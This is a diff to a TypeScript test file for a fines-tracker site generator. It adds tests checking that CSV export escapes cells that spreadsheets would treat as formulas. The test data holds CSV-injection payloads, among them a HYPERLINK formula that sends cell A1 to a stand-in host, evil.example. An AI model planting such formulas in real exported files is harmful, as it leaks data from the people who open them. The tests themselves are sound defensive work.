@@ -19,8 +19,17 @@ import {
 } from '../../src/domain/totals.js';
 import { DevSession } from '../../src/dev/session.js';
 import { axisScale } from '../../src/pages/fines-chart.js';
-import { CSV_COLUMNS, csvField } from '../../src/pages/fines-data.js';
-import { page, removeSite, run, type HtmlDocument } from '../helpers.js';
+import { CSV_COLUMNS, csvField, csvText } from '../../src/pages/fines-data.js';
+import {
+  AUTHORITIES,
+  BULLETIN,
+  item,
+  makeSite,
+  page,
+  removeSite,
+  run,
+  type HtmlDocument,
+} from '../helpers.js';
 
 const FIXTURE = join(import.meta.dirname, '../fixtures/readers-b');
 
@@ -190,6 +199,76 @@ describe('csvField (RFC 4180)', () => {
     ['', ''],
   ];
   it.each(cases)('%j', (input, expected) => expect(csvField(input)).toBe(expected));
+});
+
+describe('csvText: a text cell a spreadsheet would run is made text (OWASP)', () => {
+  const cases: [string, string][] = [
+    ['Alpha Co.', 'Alpha Co.'],
+    ['=1+1', "'=1+1"],
+    [
+      '=HYPERLINK("http://evil.example/","click")',
+      `"'=HYPERLINK(""http://evil.example/"",""click"")"`,
+    ],
+    ['+86 Mobile Ltd.', "'+86 Mobile Ltd."],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\tTabbed', "'\tTabbed"],
+    ['\rReturned', `"'\rReturned"`],
+    ['a, =b', '"a, =b"'],
+    ['Alpha = Beta', 'Alpha = Beta'],
+    ['', ''],
+  ];
+  it.each(cases)('%j', (input, expected) => expect(csvText(input)).toBe(expected));
+});
+
+describe('fines.csv of a site whose parties and titles look like formulas', () => {
+  let root: string;
+  beforeAll(async () => {
+    root = makeSite({
+      'gazette.config.yaml': 'baseUrl: https://example.org/\n',
+      'data/authorities.yaml': AUTHORITIES,
+      'content/bulletins/2022-02.md': BULLETIN,
+      'content/items/hyperlink.md': item({
+        title: `'=HYPERLINK("http://evil.example/?leak="&A1,"click")'`,
+        authority: 'cac',
+        party: `'=HYPERLINK("http://evil.example/","click")'`,
+        fine: '"RMB 300,000"',
+      }),
+      'content/items/plus.md': item({
+        title: '"+1 fined"',
+        date: '2022-01-11',
+        party: '["@SUM(1,2)", "-3+4"]',
+        fine: '"RMB 1,000"',
+      }),
+    });
+    const result = await run('build', '--root', root);
+    expect(result.stderr).toBe('');
+  });
+  afterAll(() => removeSite(root));
+
+  it('prefixes every such text cell with an apostrophe, and leaves amounts numbers', () => {
+    const text = readFileSync(join(root, 'dist/fines.csv'), 'utf8');
+    const records = parse(text, { columns: true, record_delimiter: '\r\n' }) as Record<
+      string,
+      string
+    >[];
+    expect(records.map((r) => [r.parties, r.title, r.amount, r.currency])).toEqual([
+      ["'@SUM(1,2); -3+4", "'+1 fined", '1000.00', 'CNY'],
+      [
+        `'=HYPERLINK("http://evil.example/","click")`,
+        `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
+        '300000.00',
+        'CNY',
+      ],
+    ]);
+    // No cell of any row starts a formula.
+    for (const record of records)
+      for (const [column, value] of Object.entries(record))
+        expect(value, column).not.toMatch(/^[=+\-@\t\r]/);
+    // fines.json is data for programs, not a spreadsheet: it keeps the exact text.
+    const json = JSON.parse(readFileSync(join(root, 'dist/fines.json'), 'utf8'));
+    expect(json.fines[1].parties).toEqual(['=HYPERLINK("http://evil.example/","click")']);
+  });
 });
 
 describe('the fines tracker of a site with known fines', () => {
